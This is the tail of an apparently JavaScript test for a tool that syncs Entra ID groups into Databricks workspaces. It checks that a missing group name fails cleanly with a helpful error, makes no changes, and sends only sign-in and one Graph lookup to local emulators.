    const { run, connections } = await sync(dir, { config: 'databricks-identities.yml' })
    expect(run.code).toBe(1)
    expect(run.annotations).toEqual([
      {
        level: 'error',
        message: `1 of 1 workspace(s) failed:\nanalytics-prod: Reading Entra failed, so nothing was changed: Entra group "${ref}" does not exist (no group has this display name).\nFix: Check the name in the config (Entra matches display names exactly, ignoring case), or use the group's object id.`
      }
    ])
    expect(run.outputs).toMatchObject({ changes: '0', 'failed-workspaces': 'analytics-prod' })
    // Sign-in, one Graph lookup with the reference quoted, and nothing else: no Databricks request at all.
    const tenant = emu.tenantId
    expect(requests()).toEqual([
      'github GET /_apis/oidc/token',
      `entra GET /${tenant}/v2.0/.well-known/openid-configuration`,
      `entra POST /${tenant}/oauth2/v2.0/token`,
      'graph GET /v1.0/groups'
    ])
    expect(emu.log.at(-1)?.query.$filter).toBe(filter)
    expect(emu.log.filter((e) => e.method !== 'GET' && e.service !== 'entra')).toEqual([])
    for (const c of connections) expect(c).toMatch(/^127\.0\.0\.1:\d+$/)
  })
})
